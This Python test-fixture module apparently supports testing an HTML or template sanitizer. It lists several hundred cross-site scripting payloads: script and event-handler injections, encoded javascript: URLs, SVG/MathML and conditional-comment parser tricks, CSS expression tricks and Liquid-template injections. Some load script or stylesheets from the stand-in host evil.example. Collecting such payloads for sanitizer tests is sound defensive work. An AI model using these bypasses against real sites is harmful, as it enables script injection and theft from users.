"""Hostile markup in every shape we know, written for these tests."""

ELEMENTS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script src=//evil.example/x.js
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script\x0c>alert(1)</script>
<<script>alert(1)//<</script>
<script>alert(1)
<style><script>alert(1)</script></style>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=//evil.example>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="javascript:alert(1)">
<applet code="Evil.class"></applet>
<base href="javascript:alert(1)//">
<base target=_top href=//evil.example>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv=Refresh content="0;url=//evil.example">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="set-cookie" content="a=b">
<link rel=import href=//evil.example>
<link rel="stylesheet" href="javascript:alert(1)">
<link rel="stylesheet" href="data:text/css,*{x:expression(alert(1))}">
<link rel="prefetch" href="//evil.example">
<link rel=manifest href=//evil.example>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<isindex action="javascript:alert(1)" type=image>
<video><source onerror="alert(1)"></video>
<video poster="javascript:alert(1)"></video>
<video src=x onloadstart=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)>x</details>
<dialog open onclose=alert(1)>x</dialog>
<bgsound src="javascript:alert(1)">
<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)></slot>
<portal src=//evil.example onload=alert(1)></portal>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img src=x onerror=alert(1)></noembed>
<plaintext><img src=x onerror=alert(1)>
<xmp><img src=x onerror=alert(1)></xmp>
<title><img src=x onerror=alert(1)></title>
<textarea><img src=x onerror=alert(1)></textarea><img src=x onerror=alert(1)>
<unknown onclick=alert(1)>x</unknown>
<x-foo onclick=alert(1) style="behavior:url(#x)">x</x-foo>
"""

ATTRIBUTES = (
    """
<img src=x onerror=alert(1)>
<img src=x OnErRoR=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror = alert(1)>
<img src=x\x0conerror=alert(1)>
<img src=x\x0bonerror=alert(1)>
<img src='x'onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img src=x onerror&#61;alert(1)>
<img """
    '"""'
    """><script>alert(1)</script>">
<img src="x` `<script>alert(1)</script>"` `>
<img src=x: alt=" onerror=alert(1)//">
<img src onerror /" '"= alt=alert(1)//">
<img \x00src=x \x00onerror=alert(1)>
<img src=x one\x00rror=alert(1)>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img src=x:x onload:=alert(1) onerror=alert(1)>
<img srcset="javascript:alert(1) 1x, https://x.test/a.png 2x">
<img usemap="javascript:alert(1)">
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onclick=alert(1)><body onpageshow=alert(1)>x
<div onmouseover=alert(1) onclick="alert(1)" ONKEYDOWN='alert(1)'>x</div>
<div/onmouseover='alert(1)'>x</div>
<div onpointerrawupdate=alert(1) onwebkitanimationend=alert(1)>x</div>
<p onclick\t=\talert(1)>x</p>
<p onclick\n=\nalert(1)>x</p>
<p on click=alert(1)>x</p>
<p "onclick=alert(1)>x</p>
<p title='x' 'onclick=alert(1)'>x</p>
<table background="javascript:alert(1)"><tr><td background=javascript:alert(1)>x
<td/onmouseover=alert(1)>x
<a href=x ping="javascript:alert(1)">x</a>
<a href="x" target="_top" onclick=alert(1)>x</a>
<b id=x tabindex=1 onfocusin=alert(1) contenteditable>x</b>
<a xlink:href="javascript:alert(1)">x</a>
<area shape=rect coords=0,0,9,9 href=javascript:alert(1)>
<q cite="javascript:alert(1)">x</q>
<input value=x formaction=javascript:alert(1)>
"""
)

ADDRESSES = """
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="java\nscript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href="javascript&amp;colon;alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="jav&#x0D;ascript:alert(1)">x</a>
<a href="javascript\x00:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:x">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="DATA:image/svg+xml,<svg onload=alert(1)>">x</a>
<a href="blob:https://x.test/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="jar:javascript:alert(1)">x</a>
<a href="\u00a0javascript:alert(1)">x</a>
<a href="\u200bjavascript:alert(1)">x</a>
<a href="\ufeffjavascript:alert(1)">x</a>
<a href='javascript:alert("1")' title="&quot; onclick=alert(1)">x</a>
<a href=javascript:alert(1)>x</a>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src=`javascript:alert(1)`>
"""

FOREIGN = """
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload=alert(1)>#x">
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>
<svg><title><style></title><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<svg><desc><noscript><p title="</noscript><script>alert(1)</script>"></desc></svg>
<svg><p><style><g title="</style><img src onerror=alert(1)>">
<listing><img onerror=alert(1) src=x></listing>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<table><caption><svg><script>alert(1)</script></caption></table>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>-->
<!-- <!-- --> <img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<![if gte mso 9]><img src=x onerror=alert(1)><![endif]>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--[if mso]><img src=x onerror=alert(1)><iframe src=javascript:alert(1)></iframe><![endif]-->
<!--[if mso]>--><script>alert(1)</script><!--<![endif]-->
<!--[if mso]><a title="--><script>alert(1)</script>"><![endif]-->
<!--[if !mso]><!--><script>alert(1)</script><!--<![endif]-->
<!--[if (mso)|(IE)]><v:rect href="javascript:alert(1)" onclick=alert(1)><![endif]-->
<!--[if mso]><style>p{behavior:url(x)}</style><![endif]--!><img src=x onerror=alert(1)>
<!--[if x]><![endif]--><!--[if "><script>alert(1)</script>]><![endif]-->
<?xml version="1.0"?><img src=x onerror=alert(1)>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<!doctype html PUBLIC "><script>alert(1)</script>">
</ onclick=alert(1)><img src=x onerror=alert(1)>
<//script><script>alert(1)</script>
"""  # noqa: E501

STYLES = """
<p style="width:expression(alert(1))">x</p>
<p style="width:exp/**/ression(alert(1))">x</p>
<p style="width:e\\78pression(alert(1))">x</p>
<p style="width:EXPRESSION(alert(1))">x</p>
<p style="xss:expr/*XSS*/ession(alert(1))">x</p>
<p style="background:url(javascript:alert(1))">x</p>
<p style="background:url('javascript:alert(1)')">x</p>
<p style="background:u\\72l(javascript:alert(1))">x</p>
<p style="background:url(&quot;java\\0a script:alert(1)&quot;)">x</p>
<p style="background:url(data:text/html,x)">x</p>
<p style="background-image:image-set('javascript:alert(1)' 1x)">x</p>
<p style="list-style:url(vbscript:x)">x</p>
<p style="behavior:url(#default#time2)">x</p>
<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>
<p style="-ms-behavior:url(x)">x</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>
<p style="POSITION : FIXED">x</p>
<p style="position:sticky">x</p>
<p style="position:fi\\78 ed">x</p>
<p style="filter:progid:DXImageTransform.Microsoft.Alpha(opacity=1)">x</p>
<p style="color:red;}</style><script>alert(1)</script>">x</p>
<p style="a:b;&quot;onclick=alert(1)//">x</p>
<p style='font-family:"</style><img src=x onerror=alert(1)>"'>x</p>
<style>@import url(//evil.example/x.css);</style>
<style>@import '//evil.example/x.css';</style>
<style>@im\\port '//evil.example';</style>
<style>@charset "utf-7"; p{x:+ADw-script+AD4-}</style>
<style>p{background:url(javascript:alert(1))}</style>
<style>p{width:expression(alert(1))}</style>
<style>@media screen{p{behavior:url(x)}}</style>
<style>@media x{@media y{@media z{@media a{p{width:expression(1)}}}}}</style>
<style>@font-face{font-family:x;src:url(javascript:alert(1))}</style>
<style>@namespace url(javascript:alert(1));</style>
<style>@document url(x){p{color:red}}</style>
<style>p::after{content:"</style><script>alert(1)</script>"}</style>
<style>/* </style><script>alert(1)</script> */</style>
<style><!-- </style><script>alert(1)</script> --></style>
<style>p{color:red</style><img src=x onerror=alert(1)>
<style></style<img src=x onerror=alert(1)></style>
<style media="x" onload=alert(1)>p{}</style>
<style type="text/javascript">alert(1)</style>
<style>{{{{{{p{width:expression(alert(1))}</style>
<style>p{x:y}\\</style><script>alert(1)</script></style>
"""

LIQUID = """
{{ "<script>alert(1)</script>" }}
{{ x | default: "<img src=x onerror=alert(1)>" }}
<p title="{{ x | default: " onclick=alert(1) y=" }}">x</p>
<p title='{{ x | default: "'" }}' onclick=alert(1)>x</p>
<a href="{{ 'javascript' }}:alert(1)">x</a>
<a href="java{{ x }}script:alert(1)">x</a>
<a href="{% if x %}javascript:{% endif %}alert(1)">x</a>
<{{ x }}script>alert(1)</script>
<scr{{ x }}ipt>alert(1)</script>
<{% if x %}script{% endif %}>alert(1)</script>
<p {% if x %}onclick=alert(1){% endif %}>x</p>
<p {% if x %}onclick{% endif %}=alert(1)>x</p>
<p on{% if x %}click{% endif %}=alert(1)>x</p>
<p {{ "onclick" }}=alert(1)>x</p>
<p {% if 1 > 0 %} title="<img src=x onerror=alert(1)>"{% endif %}>x</p>
<p {% if x == "><img src=x onerror=alert(1)>" %}class=a{% endif %}>x</p>
<style>{{ "</style><script>alert(1)</script>" }}</style>
<style>p{color:{{ x | default: "}</style><script>alert(1)</script>" }}}</style>
<style></sty{{ x }}le><script>alert(1)</script></style>
<p style="{{ x }}:expression(alert(1))">x</p>
<p style="width:{{ x | default: 'expression(alert(1))' }}">x</p>
<!-- {{ x }} --><script>alert(1)</script>
<!--{% if x %}--><script>alert(1)</script><!--{% endif %}-->
{% comment %}<script>alert(1)</script>{% endcomment %}
{% comment %}--><script>alert(1)</script>
{% raw %}<script>alert(1)</script>{% endraw %}
{% raw %}{{<script>alert(1)</script>}}{% endraw %}
<p title="{% raw %}"{% endraw %} onclick=alert(1)>x</p>
{% if false %}<a title="{% endif %}<img src=x onerror=alert(1)>{% if false %}">{% endif %}
<!--[if mso]>{{ "--><script>alert(1)</script>" }}<![endif]-->
<!--[if {{ x }}]><script>alert(1)</script><![endif]-->
{{<script>alert(1)</script>}}
{%<script>alert(1)</script>%}
{% <img src=x onerror=alert(1)> %}
{{ x }}<img src=cfy0z onerror=alert(1)>
cfy0z<!--cfy0p--><!--cfy0z-->{{ "<script>" }}
<p cfy0q="" cfy1g>x{{ y }}</p>
&#99;fy0z {{ "<script>alert(1)</script>" }}
<a title="&#99;fy0z">{{ '" onclick=alert(1) x="' }}</a>
"""

PAYLOADS = [
    line
    for block in (ELEMENTS, ATTRIBUTES, ADDRESSES, FOREIGN, STYLES, LIQUID)
    for line in block.strip("\n").split("\n")
    if line.strip()
]
